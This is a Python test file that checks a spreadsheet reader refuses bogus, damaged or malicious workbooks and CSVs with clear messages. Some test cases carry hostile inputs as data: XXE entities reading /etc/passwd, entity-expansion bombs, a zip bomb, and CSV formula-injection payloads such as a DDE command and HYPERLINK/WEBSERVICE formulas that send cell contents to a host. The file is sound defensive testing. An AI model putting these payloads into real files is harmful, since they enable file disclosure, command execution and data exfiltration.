"""Sheets that are no sheets, are broken, or mean harm: a message, and nothing else."""

from __future__ import annotations

import io
import tracemalloc
import zipfile

import pytest

from evidence.diagnostics import CannotGoOn
from evidence.origins import sheet, sheet_package
from tests.origins.made_sheets import archive, ods, ods_table, read, said, workbook

ROWS = [["Study", "Quote"], ["kim2003", "name more"]]


def refused(data: bytes, name: str = "coding.xlsx") -> str:
    with pytest.raises(CannotGoOn) as wrong:
        sheet.read(name, io.BytesIO(data), {})
    assert wrong.value.help
    return wrong.value.message


def rewritten(data: bytes, part: str, change) -> bytes:
    """A workbook of which one part is changed."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return archive(
            {
                name: change(book.read(name)) if name == part else book.read(name)
                for name in book.namelist()
            }
        )


SHEET = "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"<!DOCTYPE html><table><tr><td>Study</td></tr></table>", "is a saved web page"),
        (b"\xef\xbb\xbf\n <html xmlns:x='excel'><table></table>", "is a saved web page"),
        (b"MIME-Version: 1.0\nX-Document-Type: Workbook\n", "is a saved web page"),
        (b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>', "is XML"),
        (b"%PDF-1.7\n\x00\x01\x02\x03\x04\x05\x06\x07" * 9, "neither a spreadsheet nor text"),
        (b"", "cannot be told"),
        (b"PK\x03\x04 and then nothing", "is damaged"),
        (archive({"word/document.xml": "<w/>"}), "is an archive, and no spreadsheet"),
        (archive({"xl/workbook.bin": "x"}), "is a binary workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 900, "cannot be read"),
    ],
)
def test_what_is_no_sheet_is_told_as_what_it_is(data, message):
    assert message in refused(data)


def test_a_password_is_told():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
    assert "protected by a password" in refused(ole + "EncryptedPackage".encode("utf-16-le"))
    packed = rewritten(
        ods(ods_table("S", ROWS)), "META-INF/manifest.xml", lambda _: b"<m:encryption-data/>"
    )
    assert "protected by a password" in refused(packed, "coding.ods")


def test_an_archive_that_unpacks_to_too_much_is_refused_before_it_is_in_memory(monkeypatch):
    monkeypatch.setattr(sheet_package, "MOST_UNPACKED", 4 * 1024**2)
    bomb = rewritten(
        workbook({"S": ROWS}), "xl/sharedStrings.xml", lambda data: data + b" " * 64 * 1024**2
    )
    assert len(bomb) < 200_000
    tracemalloc.start()
    assert "unpacks to more than 4 MB" in refused(bomb)
    assert tracemalloc.get_traced_memory()[1] < 16 * 1024**2
    tracemalloc.stop()


def test_an_archive_that_lies_about_its_size_is_damaged():
    data = bytearray(workbook({"S": ROWS}))
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        start = book.getinfo(SHEET).header_offset
    data[start + 40 + len(SHEET) : start + 60 + len(SHEET)] = bytes(20)
    assert "is damaged" in refused(bytes(data))


@pytest.mark.parametrize(
    "entity",
    [
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE a SYSTEM "http://example.org/a.dtd">',
    ],
)
@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "xl/sharedStrings.xml"])
def test_a_document_type_is_refused(entity, part):
    data = rewritten(workbook({"S": ROWS}), part, lambda xml: xml.replace(b"?>", b"?>" + entity, 1))
    assert f"holds a document type in `{part}`" in refused(data)


@pytest.mark.parametrize("old", [b"UTF-8", b'Target="', b"Id="])
def test_a_workbook_with_a_part_of_nonsense_is_told(old):
    nonsense = rewritten(
        workbook({"S": ROWS}), "xl/_rels/workbook.xml.rels", lambda xml: xml.replace(old, b"UT")
    )
    assert refused(nonsense)


def test_an_archive_whose_table_of_contents_is_wrong_is_damaged():
    data = bytearray(workbook({"S": ROWS}))
    end = data.rfind(b"PK\x05\x06")
    data[end + 16 : end + 20] = (2**31).to_bytes(4, "little")
    assert "is damaged" in refused(bytes(data))


def test_a_cell_of_marks_alone_is_left_by_name():
    data = "Study,Barriers found\nkim2003,no money in schools; no time at all\nabel2005,;;\nmoore,no rain on the beds; no sun on them\n"
    origin = read(data, name="a.csv")
    assert len(origin.segments) == 4
    assert [(left.kind, left.because) for left in origin.left] == [
        ("cell", "nothing but marks stands in it")
    ]


def test_xml_that_breaks_off_is_damaged():
    assert "is damaged" in refused(rewritten(workbook({"S": ROWS}), SHEET, lambda xml: xml[:-40]))
    broken = rewritten(ods(ods_table("S", ROWS)), "content.xml", lambda xml: xml[:-40])
    assert "is damaged" in refused(broken, "coding.ods")


def test_a_sheet_that_says_a_million_rows_is_read_as_far_as_something_stands():
    def endless(xml: bytes) -> bytes:
        styled = b'<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>'
        return xml.replace(b'ref="A1:B2"', b'ref="A1:XFD1048576"').replace(b"</sheetData>", styled)

    data = rewritten(workbook({"S": ROWS}), SHEET, endless)
    assert said(read(data)) == [("kim2003", "name more", ())]


def test_a_cell_in_the_last_row_of_all_is_not_paid_for():
    far = workbook({"S": ROWS, "Far": [["Study", "Quote"]]})
    cell = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    data = rewritten(
        far, "xl/worksheets/sheet2.xml", lambda xml: xml.replace(b"</sheetData>", cell)
    )
    origin = read(data)
    assert len(origin.segments) == 1
    assert "reaches to row 1,048,576 and column 16,384" in origin.left[0].because


def test_endless_rows_of_an_ods_are_read_if_empty_and_left_if_not():
    empty = '<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
    table = ods_table("S", ROWS).replace("</table:table>", f"{empty}</table:table>")
    assert said(read(ods(table), name="x.ods")) == [("kim2003", "name more", ())]
    full = empty.replace(
        "/></table", ' office:value-type="string"><text:p>x</text:p></table:table-cell></table'
    )
    table = ods_table("S", ROWS).replace("</table:table>", f"{full}</table:table>")
    assert "reaches to row 1,048,002" in refused(ods(table), "x.ods")


def test_merged_cells_over_the_whole_sheet_many_times_cost_nothing():
    merges = b"<mergeCells>" + b'<mergeCell ref="A1:XFD1048576"/>' * 5000 + b"</mergeCells>"
    data = rewritten(
        workbook({"S": ROWS}),
        SHEET,
        lambda xml: xml.replace(b"</sheetData>", b"</sheetData>" + merges),
    )
    assert len(read(data).segments) == 1


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.org?"&A1,"x")',
        "=1+1",
        "=WEBSERVICE(A1)",
        "=A1",
    ],
)
def test_a_formula_in_a_text_file_is_left_by_name_and_evaluated_by_nobody(formula):
    quoted = formula.replace('"', '""')
    origin = read(
        f'Study,Quote,Memo\nkim2003,"{quoted}",so\nabel2005,beds,"{quoted}"\n', name="a.csv"
    )
    assert [(s.quote, s.memo) for s in origin.segments] == [("beds", "")]
    assert [left.name for left in origin.left if left.kind == "cell"] == [
        "cell B2 of sheet table",
        "cell C3 of sheet table",
    ]


def test_text_that_only_looks_like_a_formula_is_text():
    data = workbook({"S": [["Study", "Quote"], ["kim2003", "-3 to +5 degrees"], ["abel", "@home"]]})
    assert [quote for _, quote, _ in said(read(data))] == ["-3 to +5 degrees", "@home"]


@pytest.mark.parametrize(
    ("data", "told"),
    [
        ("Study;Quote\nkim;Gemüse".encode("utf-8-sig"), ()),
        ("Study;Quote\nkim;Gemüse".encode("utf-16"), ()),
        (
            "Study;Quote\nkim;Gemüse".encode("utf-16-le"),
            ("the file does not say its encoding: read as UTF-16",),
        ),
        (
            "Study;Quote\nkim;Gemüse".encode("latin-1"),
            ("the file does not say its encoding: read as Windows-1252",),
        ),
        ("Study;Quote\nkim;Gemüse".encode("utf-32"), ()),
    ],
)
def test_an_encoding_is_found_and_a_guess_is_told(data, told):
    (segment,) = read(data, name="a.csv").segments
    assert (segment.quote, segment.approximated) == ("Gemüse", told)


@pytest.mark.parametrize(
    ("data", "quote"),
    [
        (
            b"Study;Quote\nkim;Gem\xc3\xbcse und \xc3\xa4hnliches \xc3\xb6fter, \xff wirklich",
            "Gemüse und ähnliches öfter, � wirklich",
        ),
        (b"\xff\xfeS\0t\0u\0d\0y\0;\0Q\0u\0o\0t\0e\0\n\0k\0;\0b\0e\0d\0\x00\xd8", "bed�"),
        (b"Study;Quote\nkim;beds \x81 rain", "beds \x81 rain"),
    ],
)
def test_broken_bytes_are_told(data, quote):
    (segment,) = read(data, name="a.csv").segments
    assert segment.quote == quote
    assert len(segment.approximated) == 1


def test_an_encoding_that_the_settings_name_is_used_or_refused():
    told = {"sheets": {"table": {"columns": {"Study": "text", "Quote": "quote"}}}}
    mac = "Study;Quote\nkim;Gemüse".encode("mac-roman")
    (segment,) = read(mac, {**told, "encoding": "mac-roman"}, "a.csv").segments
    assert (segment.quote, segment.approximated) == ("Gemüse", ())
    for encoding, message in (
        ("utf-8", "is not in the encoding `utf-8`"),
        ("klingon", "which is not known"),
        ("base64", "is not in the encoding"),
    ):
        with pytest.raises(CannotGoOn, match=message):
            sheet.read("a.csv", io.BytesIO(mac), {**told, "encoding": encoding})


def test_a_cell_of_a_million_letters_and_one_quote_mark_without_its_partner_are_read():
    long = "a" * 1_000_000
    assert said(read(f"Study,Quote\nkim,{long}\n", name="a.csv")) == [("kim", long, ())]
    origin = read('Study,Quote\nkim,"never closed\nabel,beds\n', name="a.csv")
    assert said(origin) == [("kim", "never closed abel,beds", ())]


def test_a_file_that_is_no_sheet_is_not_recognised():
    for name, data, expected in (
        ("a.xlsx", workbook({"S": ROWS}), True),
        ("a.bin", workbook({"S": ROWS}), True),
        ("a.csv", b"a,b\n", True),
        ("a.txt", b"a,b\n", False),
        ("a.qdpx", archive({"project.qde": "<x/>"}), False),
        ("a.xlsx", b"<html>", True),
    ):
        assert sheet.recognises(name, io.BytesIO(data)) is expected
